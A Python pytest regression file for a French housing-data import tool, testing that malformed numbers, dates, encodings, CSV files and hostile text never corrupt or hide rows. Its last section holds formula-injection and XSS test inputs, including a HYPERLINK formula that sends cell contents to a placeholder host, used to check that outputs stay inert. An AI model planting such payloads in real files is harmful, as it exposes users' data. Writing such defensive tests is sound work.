"""Regression tests of issue 13: messy and hostile inputs never lose, corrupt or hide a row.

Each test builds the input that showed a defect (from the canonical rows of
``tests/test_import.py`` or the demo sample) and checks the import reads it correctly,
rejects the row with a French reason, or refuses the file with a French message.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import errno
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from cia_lib.cli import main
from cia_lib.entrees.conversion import convention_decimale, convertir_dates, convertir_nombres_motifs
from cia_lib.entrees.donnees import charger_donnees
from cia_lib.entrees.importation import importer
from cia_lib.entrees.lecture import _lire_csv_ligne_a_ligne, detecter_encodage, lire_csv
from cia_lib.entrees.pseudonymisation import VARIABLE_CLE
from cia_lib.entrees.publication import fichier_verrou
from cia_lib.erreurs import ErreurFichier, ErreurParametre, ErreurRejets
from cia_lib.restitution.contexte import ouvrir_contexte
from cia_lib.restitution.presentation import bandeau, html_alerte_qualite
from cia_lib.territoire import chemins
from cia_lib.territoire.config import lire_part
from tests.test_import import CLE, ecrire_csv, ecrire_dossier, lire_sorties, rejets, tables_canoniques, texte_csv

TERRITOIRE_TEST = Path(__file__).parent / "fixtures" / "territoire_test.yaml"

# --------------------------------------------------------------------------- numbers


def test_entier_de_20_chiffres_rejete_avec_le_bon_motif():
    valeurs, motifs = convertir_nombres_motifs(pd.Series(["12345678901234567890", "3"], dtype="string"),
                                               entier=True)
    assert valeurs.isna().tolist() == [True, False] and valeurs.iloc[1] == 3
    assert motifs.iloc[0].startswith("nombre hors limites") and pd.isna(motifs.iloc[1])


def test_quatre_cents_neuf_jamais_infini():
    valeurs, motifs = convertir_nombres_motifs(pd.Series(["9" * 400, "1e400", "1200,5"], dtype="string"))
    assert valeurs.isna().tolist() == [True, True, False]
    assert motifs.iloc[0].startswith("nombre hors limites") and motifs.iloc[1] == "nombre illisible"


@pytest.mark.parametrize("colonne, attendu", [
    (["1200,50", "1.234", "800"], [1200.5, 1234.0, 800.0]),      # decimal commas: the point separates thousands
    (["1200.50", "1,234", "800"], [1200.5, 1234.0, 800.0]),      # decimal points: the comma separates thousands
    (["1200,50", "1.234,5"], [1200.5, 1234.5]),                  # unambiguous either way
])
def test_nombre_ambigu_lu_selon_la_convention_de_la_colonne(colonne, attendu):
    valeurs, motifs = convertir_nombres_motifs(pd.Series(colonne, dtype="string"))
    assert valeurs.tolist() == attendu and motifs.isna().all()


def test_nombre_ambigu_sans_convention_rejete():
    assert convention_decimale(pd.Series(["1.234", "1200,5", "1200.5"])) is None
    valeurs, motifs = convertir_nombres_motifs(pd.Series(["1.234", "800"], dtype="string"))
    assert valeurs.isna().tolist() == [True, False]
    assert motifs.iloc[0].startswith("nombre ambigu : le point ou la virgule")


def test_import_nombres_hostiles_rejetes_ligne_a_ligne(tmp_path, territoire_test):
    tables = tables_canoniques()
    entetes, lignes = tables["attributions"]
    lignes[0][entetes.index("nb_personnes")] = "12345678901234567890"
    lignes[1][entetes.index("ressources_mensuelles")] = "9" * 400
    lignes[2][entetes.index("ressources_mensuelles")] = "1.234"  # the other cells: "1200,50" (decimal comma)
    entetes_r, lignes_r = tables["residences"]
    lignes_r[0][entetes_r.index("annee_mise_en_service")] = "99999999999999999999"
    rapport = importer(ecrire_dossier(tmp_path / "src", tables), tmp_path / "out", territoire_test, cle=CLE,
                       accepter_rejets=True)
    r = rejets(tmp_path / "out")
    motifs = dict(zip(zip(r["fichier"], r["ligne"], r["colonne"]), r["motif"]))
    assert motifs[("attributions.csv", "2", "nb_personnes")].startswith("nombre hors limites")
    assert motifs[("attributions.csv", "3", "ressources_mensuelles")].startswith("nombre hors limites")
    assert motifs[("residences.csv", "2", "annee_mise_en_service")].startswith("nombre hors limites")
    assert ("attributions.csv", "4", "ressources_mensuelles") not in motifs
    d = charger_donnees(tmp_path / "out")
    assert d.attributions.set_index("id_attribution").loc["A3", "ressources_mensuelles"] == 1234.0
    assert rapport["fichiers"]["attributions"]["rejetes"] == 2


# --------------------------------------------------------------------------- dates


def test_heure_impossible_rend_la_date_illisible():
    dates, erreurs = convertir_dates(pd.Series(["31/01/2025 25:99", "31/01/2025 23:59", "2025-01-31T08:05:09"],
                                               dtype="string"))
    assert erreurs.tolist() == [True, False, False]
    assert dates.iloc[1] == pd.Timestamp("2025-01-31") and dates.iloc[2] == pd.Timestamp("2025-01-31")


# --------------------------------------------------------------------------- reading


def test_encodage_melange_refuse_avec_la_ligne(tmp_path):
    texte = "id_residence;nom_residence\nR1;Immobilière 3F\nR2;Les Érables\n"
    octets = texte.encode("utf-8").replace("Les É".encode(), b"Les \xc9")  # one cp1252 byte, line 3
    with pytest.raises(ErreurFichier) as exc:
        detecter_encodage(octets, "residences.csv")
    message = str(exc.value)
    assert "encodage mélangé" in message and "0xC9 ligne 3, colonne 8" in message
    assert detecter_encodage(texte.encode("cp1252")) == "cp1252"  # a real Windows-1252 file is still read


def test_import_encodage_melange_refuse_rien_ecrit(tmp_path, territoire_test):
    source = ecrire_dossier(tmp_path / "src")
    chemin = source / "residences.csv"
    chemin.write_bytes(chemin.read_bytes().replace("Érables".encode(), "Érables".encode("cp1252")))
    chemin.write_bytes(chemin.read_bytes() + "R9;Immobilière 3F;HI;99001;;10;;;\r\n".encode())
    with pytest.raises(ErreurFichier, match="encodage mélangé.*ligne 2"):
        importer(source, tmp_path / "out", territoire_test, cle=CLE)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("rapide", [True, False])
def test_virgule_decimale_non_protegee_ligne_mal_formee(tmp_path, rapide):
    lignes = [["R1", "Les Érables", "HI", "99001", "", "40", "1975", "48.9", "2.3"]]
    texte = texte_csv(["id_residence", "nom_residence", "bailleur", "code_commune", "code_qpv", "nb_logements",
                       "annee_mise_en_service", "latitude", "longitude"], lignes, sep=",")
    texte += "R2,Le Parc,FF,99002,,20,1980,49,5,\r\n"  # unquoted 49,5 and an empty longitude
    texte += "R3,Le Bois,FF,99002,,20,1980,,\r\n"
    chemin = tmp_path / "residences.csv"
    chemin.write_text(texte, encoding="utf-8")
    octets = chemin.read_bytes()
    brut = lire_csv(chemin) if rapide else _lire_csv_ligne_a_ligne(chemin, chemin.name, octets, "utf-8")
    assert brut.lignes_mal_formees == [(3, 10)]
    assert brut.lignes["id_residence"].tolist() == ["R1", "R3"]


def test_point_virgule_en_trop_vide_toujours_tolere(tmp_path):
    chemin = tmp_path / "residences.csv"
    chemin.write_text("id_residence;nom_residence\r\nR1;Les Érables;\r\n", encoding="utf-8")
    brut = lire_csv(chemin)
    assert brut.lignes_mal_formees == [] and brut.lignes["nom_residence"].tolist() == ["Les Érables"]


def test_virgule_decimale_non_protegee_rejetee_a_l_import(tmp_path, territoire_test):
    tables = tables_canoniques()
    source = ecrire_dossier(tmp_path / "src", tables, sep=",")
    chemin = source / "residences.csv"
    chemin.write_text(chemin.read_text(encoding="utf-8") + "R3,Le Bois,FF,99002,,20,1980,49,5,\r\n",
                      encoding="utf-8")
    importer(source, tmp_path / "out", territoire_test, cle=CLE, accepter_rejets=True)
    r = rejets(tmp_path / "out")
    assert r[["fichier", "ligne"]].values.tolist() == [["residences.csv", "4"]]
    assert r["motif"].iloc[0].startswith("ligne mal formée : 10 champs")
    assert "R3" not in set(charger_donnees(tmp_path / "out").residences["id_residence"])


# --------------------------------------------------------------------------- the demo sample, made messy


def _copie_exemple(exemple_brut: Path, dossier: Path) -> Path:
    shutil.copytree(exemple_brut, dossier)
    return dossier


def _remplacer(chemin: Path, avant: str, apres: str) -> None:
    texte = chemin.read_text(encoding="cp1252")
    assert avant in texte
    chemin.write_text(texte.replace(avant, apres), encoding="cp1252")


def test_exemple_sous_le_seuil_publie(exemple_traite):
    """The demo sample rejects 4 of 781 leases on purpose (0.5 %): under the default 1 %."""
    rapport = json.loads((exemple_traite / "rapport_import.json").read_text(encoding="utf-8"))
    assert rapport["qualite"] == {"seuil_rejets": 0.01, "rejets_acceptes": False, "problemes": []}
    assert rapport["alerte_qualite"] is None
    assert rapport["rejets"]["par_table"]["attributions"]["rejetees"] == 4


def test_libelles_inconnus_refuses_et_tables_precedentes_gardees(tmp_path, capsys, exemple_brut, exemple_traite,
                                                                 territoire, cle_test):
    destination = tmp_path / "out"
    shutil.copytree(exemple_traite, destination, symlinks=True)
    avant = lire_sorties(destination)
    source = _copie_exemple(exemple_brut, tmp_path / "src")
    _remplacer(source / "attributions.csv", ";etat;", ";Préfecture - contingent prioritaire;")
    with pytest.raises(ErreurRejets) as exc:
        importer(source, destination, territoire, cle=cle_test)
    message = str(exc.value)
    # 207 unknown labels + the 4 rejects of the sample (one row has both): 210 of 781 rows
    assert "attributions : 26,9 % des lignes rejetées (seuil 1 %)" in message
    assert ("reservataire : valeur non autorisée : 207 ; valeurs les plus fréquentes : "
            "« Préfecture - contingent prioritaire » (207)") in message
    assert '"Préfecture - contingent prioritaire": À_COMPLÉTER  # parmi : etat, etat_fonctionnaires' in message
    assert lire_sorties(destination) == avant  # nothing published, the previous import is intact
    assert not list(destination.rglob("*.tmp"))
    # through the command line: exit code 3, the summary on stderr, no traceback
    code = main(["importer", "--source", str(source), "--destination", str(destination)])
    err = capsys.readouterr().err
    assert code == 3 and "Traceback" not in err and "--accepter-rejets" in err
    assert lire_sorties(destination) == avant


def test_accepter_rejets_publie_avec_alerte(tmp_path, exemple_brut, territoire, cle_test):
    source = _copie_exemple(exemple_brut, tmp_path / "src")
    _remplacer(source / "attributions.csv", ";etat;", ";Préfecture - contingent prioritaire;")
    rapport = importer(source, tmp_path / "out", territoire, cle=cle_test, accepter_rejets=True)
    assert rapport["qualite"]["rejets_acceptes"] is True
    assert rapport["alerte_qualite"].startswith("Données publiées malgré des rejets au-delà du seuil")
    assert rapport["fichiers"]["attributions"]["rejets_par_motif"]["reservataire : valeur non autorisée"] == 207
    lu = charger_donnees(tmp_path / "out")
    assert lu.rapport_import["alerte_qualite"] == rapport["alerte_qualite"]
    assert len(lu.attributions) == 781 - 210
    alerte = html_alerte_qualite(lu.rapport_import)
    assert "ALERTE QUALITÉ DES DONNÉES" in alerte and "26,9 %" in alerte
    md = (tmp_path / "out" / "rapport_import.md").read_text(encoding="utf-8")
    assert "**Alerte qualité des données**" in md and "```yaml" in md
    # the first screen of every report: the banner of a context opened on these tables
    ctx = ouvrir_contexte(tmp_path / "out", chemins.TERRITOIRE_DEFAUT, 2025)
    premier_ecran = bandeau(ctx).data
    assert premier_ecran.index("DONNÉES FICTIVES") < premier_ecran.index("ALERTE QUALITÉ DES DONNÉES")


def test_import_refuse_liste_aussi_les_fichiers_ignores(tmp_path, exemple_brut, territoire, cle_test):
    source = _copie_exemple(exemple_brut, tmp_path / "src")
    (source / "attributions 2025T2.csv").write_text("x;y\n1;2\n", encoding="utf-8")
    with pytest.raises(ErreurRejets, match=r"fichier ignoré : attributions 2025T2\.csv"):
        importer(source, tmp_path / "a", territoire, cle=cle_test, seuil_rejets=0.001)


def test_seuil_configurable_option_et_territoire(tmp_path, exemple_brut, territoire, cle_test):
    source = _copie_exemple(exemple_brut, tmp_path / "src")
    with pytest.raises(ErreurRejets, match=r"0,5 % des lignes rejetées \(seuil 0,1 %\)"):
        importer(source, tmp_path / "a", territoire, cle=cle_test, seuil_rejets=0.001)
    strict = dataclasses.replace(territoire, seuil_rejets=0.004)
    with pytest.raises(ErreurRejets, match=r"seuil 0,4 %"):
        importer(source, tmp_path / "b", strict, cle=cle_test)
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
    assert lire_part("1 %", "x") == 0.01
    with pytest.raises(ErreurParametre, match="--seuil-rejets : une part entre 0 et 1"):
        lire_part("beaucoup", "--seuil-rejets", ErreurParametre)


def test_entete_de_ressources_non_reconnu_refuse(tmp_path, exemple_brut, territoire, cle_test):
    source = _copie_exemple(exemple_brut, tmp_path / "src")
    _remplacer(source / "attributions.csv", ";ressources_mensuelles;", ";Revenus mensuels;")
    with pytest.raises(ErreurRejets) as exc:
        importer(source, tmp_path / "out", territoire, cle=cle_test)
    assert "attributions : colonne ressources_mensuelles absente de tous les fichiers" in str(exc.value)
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- files, mapping, messages


def test_fichier_au_nom_proche_liste_comme_ignore(tmp_path, capsys):
    source = ecrire_dossier(tmp_path / "src")
    entetes, lignes = tables_canoniques()["attributions"]
    ecrire_csv(source / "attributions 2025T2.csv", entetes, lignes)
    (source / "notes.txt").write_text("à lire", encoding="utf-8")
    code = main(["importer", "--source", str(source), "--destination", str(tmp_path / "out"),
                 "--territoire", str(TERRITOIRE_TEST)])
    out = capsys.readouterr().out
    assert code == 0
    rapport = json.loads((tmp_path / "out" / "rapport_import.json").read_text(encoding="utf-8"))
    assert rapport["fichiers_ignores"] == [
        {"fichier": "attributions 2025T2.csv",
         "raison": "nom proche de la table « attributions » mais pas conforme : renommez-le attributions.csv ou "
                   "attributions_<extrait>.csv (sans espace ni accent)"},
        {"fichier": "notes.txt", "raison": "ne correspond à aucune table"},
    ]
    assert "fichier ignoré : attributions 2025T2.csv (nom proche de la table « attributions »" in out
    assert "## Fichiers ignorés" in (tmp_path / "out" / "rapport_import.md").read_text(encoding="utf-8")


def test_correspondance_sans_effet_signalee(tmp_path, territoire_test):
    source = ecrire_dossier(tmp_path / "src")
    correspondance = {"attributions": {"colonnes": {"Revenus du ménage": "ressources_mensuelles"}}}
    rapport = importer(source, tmp_path / "out", territoire_test, correspondance, cle=CLE)
    assert rapport["rejets"]["correspondances_inutilisees"] == {"attributions": ["revenus_du_menage"]}
    assert ("attributions : correspondance sans effet, en-tête(s) absent(s) de tous les fichiers : "
            "revenus_du_menage.") in rapport["avertissements"]


def test_lignes_de_correspondance_pour_les_libelles_inconnus(tmp_path, territoire_test):
    tables = tables_canoniques()
    entetes, lignes = tables["attributions"]
    lignes[0][entetes.index("reservataire")] = "Préfecture - contingent prioritaire"
    lignes[1][entetes.index("dalo")] = "Oui sous réserve"
    lignes[2][entetes.index("bailleur")] = "Nouveau Bailleur"
    rapport = importer(ecrire_dossier(tmp_path / "src", tables), tmp_path / "out", territoire_test, cle=CLE)
    lignes_yaml = rapport["rejets"]["correspondance_a_ajouter"]
    assert lignes_yaml[:3] == ["attributions:", "  valeurs:", "    bailleur:"]
    assert '      "Nouveau Bailleur": À_COMPLÉTER  # parmi : Habitat Imaginaire, Foyer Fictif' in lignes_yaml
    assert '      "Oui sous réserve": À_COMPLÉTER  # parmi : oui, non' in lignes_yaml
    assert any(ligne.startswith('      "Préfecture - contingent prioritaire": À_COMPLÉTER  # parmi : etat,')
               for ligne in lignes_yaml)
    # the YAML is valid once completed, and imports the three rows
    texte = "\n".join(lignes_yaml).replace("À_COMPLÉTER", "X")
    texte = texte.replace('"Nouveau Bailleur": X', '"Nouveau Bailleur": Foyer Fictif')
    texte = texte.replace('"Oui sous réserve": X', '"Oui sous réserve": oui')
    texte = texte.replace('prioritaire": X', 'prioritaire": etat')
    (tmp_path / "corresp.yaml").write_text(texte, encoding="utf-8")
    rapport = importer(tmp_path / "src", tmp_path / "out2", territoire_test, tmp_path / "corresp.yaml", cle=CLE)
    assert rapport["fichiers"]["attributions"]["rejetes"] == 0


def _destination_fichier(tmp_path):
    (tmp_path / "out").write_text("pas un dossier", encoding="utf-8")
    return [], "out : la destination est un fichier ; un dossier est attendu."


def _cle_dossier(tmp_path):
    (tmp_path / "cle").mkdir()
    return ["--cle", str(tmp_path / "cle")], "c'est un dossier ; --cle doit désigner le fichier de la clé."


def _correspondance_liste(cle):
    def cas(tmp_path):
        (tmp_path / "c.yaml").write_text(f"attributions:\n  {cle}:\n    - Réservataire\n    - etat\n",
                                         encoding="utf-8")
        return ["--correspondance", str(tmp_path / "c.yaml")], f"la rubrique « {cle} » doit être un dictionnaire"
    return cas


def _correspondance_dossier(tmp_path):
    (tmp_path / "corresp").mkdir()
    return ["--correspondance", str(tmp_path / "corresp")], "fichier de correspondance attendu, c'est un dossier."


def _correspondance_yaml_casse(tmp_path):
    (tmp_path / "c.yaml").write_text("attributions:\n  colonnes: {a: b\n", encoding="utf-8")
    return ["--correspondance", str(tmp_path / "c.yaml")], "YAML illisible ligne 3, colonne 1"


def _seuil_illisible(tmp_path):
    return ["--seuil-rejets", "2"], "--seuil-rejets : une part entre 0 et 1"


@pytest.mark.parametrize("cas", [
    _destination_fichier, _cle_dossier, _correspondance_liste("colonnes"), _correspondance_liste("valeurs"),
    _correspondance_dossier, _correspondance_yaml_casse, _seuil_illisible,
], ids=["destination fichier", "clé dossier", "colonnes liste", "valeurs liste", "correspondance dossier",
        "yaml cassé", "seuil illisible"])
def test_erreurs_francaises_sans_trace(tmp_path, capsys, monkeypatch, cas):
    monkeypatch.delenv(VARIABLE_CLE, raising=False)
    source = ecrire_dossier(tmp_path / "src")
    monkeypatch.chdir(tmp_path)
    options, attendu = cas(tmp_path)
    if "--cle" not in options:
        options += ["--cle", str(tmp_path / "cle.cle")]
    code = main(["importer", "--source", str(source), "--destination", "out", "--territoire", str(TERRITOIRE_TEST),
                 *options])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith("Erreur : ") and attendu in err and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1


@pytest.mark.skipif(os.geteuid() == 0, reason="root lit et écrit partout : droits non testables")
def test_droits_insuffisants_messages_francais(tmp_path, territoire_test):
    source = ecrire_dossier(tmp_path / "src")
    (source / "ops.csv").chmod(0)
    with pytest.raises(ErreurFichier, match=r"ops.csv : fichier illisible \(accès refusé"):
        importer(source, tmp_path / "out", territoire_test, cle=CLE)
    (source / "ops.csv").chmod(0o644)
    (tmp_path / "ferme").mkdir()
    (tmp_path / "ferme").chmod(0o500)
    with pytest.raises(ErreurFichier, match="accès refusé"):
        importer(source, tmp_path / "ferme" / "out", territoire_test, cle=CLE)


def test_disque_plein_message_francais_tables_precedentes_gardees(tmp_path, territoire_test, monkeypatch):
    source = ecrire_dossier(tmp_path / "src")
    importer(source, tmp_path / "out", territoire_test, cle=CLE)
    avant = lire_sorties(tmp_path / "out")

    def plein(*_, **__):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_parquet", plein)  # the disk fills up while the tables are written
    with pytest.raises(ErreurFichier) as exc:
        importer(source, tmp_path / "out", territoire_test, cle=CLE)
    assert str(exc.value) == (f"{tmp_path / 'out'} : écriture impossible (disque plein : libérez de la place puis "
                              "relancez) ; les tables précédentes sont conservées.")
    assert lire_sorties(tmp_path / "out") == avant
    assert sorted(p.name for p in (tmp_path / "out" / ".versions").iterdir()) == [
        (tmp_path / "out" / ".actuelle").resolve().name]


# --------------------------------------------------------------------------- lock and atomic publication


def test_deux_imports_simultanes_le_second_refuse(tmp_path, territoire_test, capsys):
    from filelock import FileLock

    source = ecrire_dossier(tmp_path / "src")
    with FileLock(fichier_verrou(tmp_path / "out")):  # another import holds the destination
        with pytest.raises(ErreurFichier, match="un autre import est en cours vers cette destination"):
            importer(source, tmp_path / "out", territoire_test, cle=CLE)
        code = main(["importer", "--source", str(source), "--destination", str(tmp_path / "out"),
                     "--territoire", str(TERRITOIRE_TEST)])
        assert code == 2 and "un autre import est en cours" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    importer(source, tmp_path / "out", territoire_test, cle=CLE)  # free again
    assert (tmp_path / "out" / "attributions.parquet").exists()


_SCRIPT_TUE = """
import os, sys
from pathlib import Path
from cia_lib.entrees import publication
from cia_lib.entrees.importation import importer
from cia_lib.territoire.config import charger_territoire

vrai_replace = os.replace
def replace(a, b):
    if Path(b).name == sys.argv[4]:
        os._exit(9)  # killed at that very moment: no cleanup runs
    vrai_replace(a, b)
publication.os.replace = replace
importer(sys.argv[1], sys.argv[2], charger_territoire(sys.argv[3]), cle=b"cle-de-test-non-secrete")
"""


def _ancienne_destination(source: Path, destination: Path, territoire) -> None:
    """A destination as written before versions existed: plain files."""
    importer(source, destination.with_name("neuve"), territoire, cle=CLE)
    destination.mkdir()
    for nom, contenu in lire_sorties(destination.with_name("neuve")).items():
        (destination / nom).write_bytes(contenu)


@pytest.mark.parametrize("moment", [".actuelle", "residences.parquet"],
                         ids=["avant la bascule", "pendant la reprise d'une ancienne destination"])
def test_import_tue_jamais_de_melange(tmp_path, territoire_test, moment):
    """A real process killed while publishing: the destination shows one whole version."""
    source = ecrire_dossier(tmp_path / "src")
    if moment == ".actuelle":
        importer(source, tmp_path / "out", territoire_test, cle=CLE)
    else:
        _ancienne_destination(source, tmp_path / "out", territoire_test)
    avant = lire_sorties(tmp_path / "out")
    tables = tables_canoniques()
    tables["residences"][1][0][1] = "Les Érables rénovées"
    tables["attributions"][1][0][0] = "A1bis"
    ecrire_dossier(tmp_path / "src2", tables)
    resultat = subprocess.run([sys.executable, "-c", _SCRIPT_TUE, str(tmp_path / "src2"), str(tmp_path / "out"),
                               str(TERRITOIRE_TEST), moment], capture_output=True, text=True, cwd=chemins.RACINE)
    assert resultat.returncode == 9, resultat.stderr
    visibles = {n: c for n, c in lire_sorties(tmp_path / "out").items() if not n.startswith(".")}
    assert visibles == avant  # killed before the switch: the previous version, whole (hidden leftovers aside)
    assert "A1bis" not in set(charger_donnees(tmp_path / "out").attributions["id_attribution"])
    assert not list((tmp_path / "out").rglob("*.tmp"))
    importer(tmp_path / "src2", tmp_path / "out", territoire_test, cle=CLE)  # the next import cleans up
    assert len(list((tmp_path / "out" / ".versions").iterdir())) == 1
    assert sorted(p.name for p in (tmp_path / "out").iterdir() if p.name.startswith(".")) == [".actuelle", ".versions"]


def test_echec_au_milieu_rien_de_publie(tmp_path, territoire_test, monkeypatch):
    from cia_lib.entrees import importation

    source = ecrire_dossier(tmp_path / "src")
    importer(source, tmp_path / "out", territoire_test, cle=CLE)
    avant = lire_sorties(tmp_path / "out")

    def panne(*_):
        raise RuntimeError("panne au milieu de l'écriture")

    monkeypatch.setattr(importation, "rapport_markdown", panne)  # tables written, reports not yet
    with pytest.raises(RuntimeError):
        importer(ecrire_dossier(tmp_path / "src2", tables_canoniques()), tmp_path / "out", territoire_test, cle=CLE)
    assert lire_sorties(tmp_path / "out") == avant
    assert len(list((tmp_path / "out" / ".versions").iterdir())) == 1


def test_ancienne_destination_sans_versions_migree(tmp_path, territoire_test):
    """A destination written before versions existed (plain files, a stray .tmp) is taken over."""
    source = ecrire_dossier(tmp_path / "src")
    ancienne = tmp_path / "out"
    _ancienne_destination(source, ancienne, territoire_test)
    (ancienne / "attributions.parquet.tmp").write_bytes(b"reste d'un import tue")
    importer(source, ancienne, territoire_test, cle=CLE)
    assert not list(ancienne.glob("*.tmp"))
    assert all((ancienne / nom).is_symlink() for nom in lire_sorties(tmp_path / "neuve"))
    assert lire_sorties(ancienne) == lire_sorties(tmp_path / "neuve")
    assert len(list((ancienne / ".versions").iterdir())) == 1


# --------------------------------------------------------------------------- hostile text, rejets.csv


HOSTILE = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'


def test_rejets_csv_francais_et_texte_inerte(tmp_path, territoire_test):
    tables = tables_canoniques()
    entetes, lignes = tables["attributions"]
    lignes[0][entetes.index("reservataire")] = HOSTILE
    lignes[1][entetes.index("typologie")] = "@SOMME(A1:A9)"
    importer(ecrire_dossier(tmp_path / "src", tables), tmp_path / "out", territoire_test, cle=CLE)
    octets = (tmp_path / "out" / "rejets.csv").read_bytes()
    assert octets.startswith(b"\xef\xbb\xbffichier;ligne;colonne;valeur;motif\r\n")
    r = rejets(tmp_path / "out")
    assert set(r["valeur"]) == {"'" + HOSTILE, "'@SOMME(A1:A9)"}


def test_sorties_csv_et_xlsx_texte_inerte(tmp_path):
    from openpyxl import load_workbook

    from cia_lib.restitution.sorties import ecrire_tableau

    table = pd.DataFrame({"nom_residence": [HOSTILE, "+33 1 23", "-x", "\tcache", "Les Érables"],
                          "nb": [1, -2, 3, 4, 5]})
    ecrire_tableau(table, tmp_path / "t.csv", "Résidences")
    lu = pd.read_csv(tmp_path / "t.csv", sep=";", encoding="utf-8-sig", dtype=str)
    assert lu["nom_residence"].tolist() == ["'" + HOSTILE, "+33 1 23", "'-x", "'\tcache", "Les Érables"]
    assert lu["nb"].tolist() == ["1", "-2", "3", "4", "5"]
    ecrire_tableau(table, tmp_path / "t.xlsx", "Résidences")
    feuille = load_workbook(tmp_path / "t.xlsx")["Résidences"]
    cellule = feuille["A2"]
    assert cellule.value == HOSTILE and cellule.data_type == "s" and cellule.quotePrefix
    assert feuille["B3"].value == -2 and feuille["B3"].data_type == "n"


def test_classeur_du_bilan_texte_inerte(tmp_path):
    import datetime as dt

    from openpyxl import load_workbook

    from cia_lib.restitution.rapports.excel import ecrire_classeur

    tableaux = [{"nom": "Résidences", "colonnes": ["bailleur", "taux"], "lignes": [[HOSTILE, 0.5], ["=1+1", None]]}]
    ecrire_classeur(tableaux, tmp_path / "b.xlsx", "Bilan", dt.datetime(2025, 12, 31))
    feuille = load_workbook(tmp_path / "b.xlsx")["Résidences"]
    assert [feuille["A2"].value, feuille["A3"].value] == [HOSTILE, "=1+1"]
    assert {feuille["A2"].data_type, feuille["A3"].data_type} == {"s"}
    # nothing in the saved sheet is a formula
    with zipfile.ZipFile(tmp_path / "b.xlsx") as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_html_echappe_le_texte_hostile():
    from cia_lib.restitution.presentation import tableau_html

    html = tableau_html(pd.DataFrame({"nom_residence": ["<script>alert(1)</script>", HOSTILE]})).html
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "<script>" not in html_alerte_qualite({"alerte_qualite": "<script>x</script>"})


# --------------------------------------------------------------------------- dates, through the import


def test_ordre_des_dates_controle_a_l_import(tmp_path, territoire_test):
    tables = tables_canoniques()
    entetes, lignes = tables["attributions"]
    lignes[0][entetes.index("date_bail")] = "10/01/2025"       # decision 15/01/2025: lease before decision
    lignes[1][entetes.index("date_depot")] = "25/01/2025"      # decision 20/01/2025: filed after decision
    lignes[2][entetes.index("date_bail")] = "31/01/2025 25:99"  # impossible time of day
    tables["demandes"][1][1][0] = "31/12/2031"  # date_extraction after the import
    rapport = importer(ecrire_dossier(tmp_path / "src", tables), tmp_path / "out", territoire_test, cle=CLE,
                       aujourdhui=dt.date(2026, 1, 1))
    r = rejets(tmp_path / "out")
    motifs = {(f, ligne, c): m for f, ligne, c, m in zip(r["fichier"], r["ligne"], r["colonne"], r["motif"])}
    assert motifs[("attributions.csv", "2", "date_bail")] == (
        "la date du bail est antérieure à la décision (date_decision 15/01/2025, date_bail 10/01/2025)")
    assert motifs[("attributions.csv", "3", "date_depot")] == (
        "la date de dépôt est postérieure à la décision (date_depot 25/01/2025, date_decision 20/01/2025)")
    assert motifs[("attributions.csv", "4", "date_bail")].startswith("date illisible")
    assert motifs[("demandes.csv", "3", "date_extraction")] == (
        "date postérieure à la date de l'import : impossible dans un extrait")
    assert rapport["fichiers"]["attributions"]["conserves"] == 0


def test_bail_tardif_compte_comme_suspect(tmp_path, territoire_test):
    tables = tables_canoniques()
    entetes, lignes = tables["attributions"]
    lignes[2][entetes.index("date_bail")] = "10/04/2025"  # decision 03/03/2024: 13 months later
    rapport = importer(ecrire_dossier(tmp_path / "src", tables), tmp_path / "out", territoire_test, cle=CLE)
    assert rapport["fichiers"]["attributions"]["baux_plus_d_un_an_apres_decision"] == 1
    assert ("attributions : 1 bail(aux) signé(s) plus d'un an après la décision (conservés ; dates à vérifier)."
            in rapport["avertissements"])


@pytest.mark.parametrize("octets, attendu", [
    (b'a;b\n"' + b"x" * 200_000 + b";1\n", "champ de plus de 131072 caractères : sans doute un guillemet jamais fermé"),
    (b'a;b\n1;"abc\n', "fin du fichier à l'intérieur d'un champ entre guillemets"),
    (b'a;b\n1;"abc"d\n', "caractère inattendu après un guillemet fermant"),
])
def test_csv_mal_forme_message_francais(tmp_path, octets, attendu):
    chemin = tmp_path / "ops.csv"
    chemin.write_bytes(octets)
    with pytest.raises(ErreurFichier) as exc:
        lire_csv(chemin)
    assert attendu in str(exc.value)
    assert "field" not in str(exc.value) and "expected" not in str(exc.value)


def test_source_fichier_et_destination_sous_un_fichier(tmp_path, territoire_test):
    (tmp_path / "fichier").write_text("x", encoding="utf-8")
    with pytest.raises(ErreurFichier, match="la source est un fichier"):
        importer(tmp_path / "fichier", tmp_path / "out", territoire_test, cle=CLE)
    with pytest.raises(ErreurFichier, match="un fichier se trouve là où un dossier est attendu"):
        importer(ecrire_dossier(tmp_path / "src"), tmp_path / "fichier" / "out", territoire_test, cle=CLE)
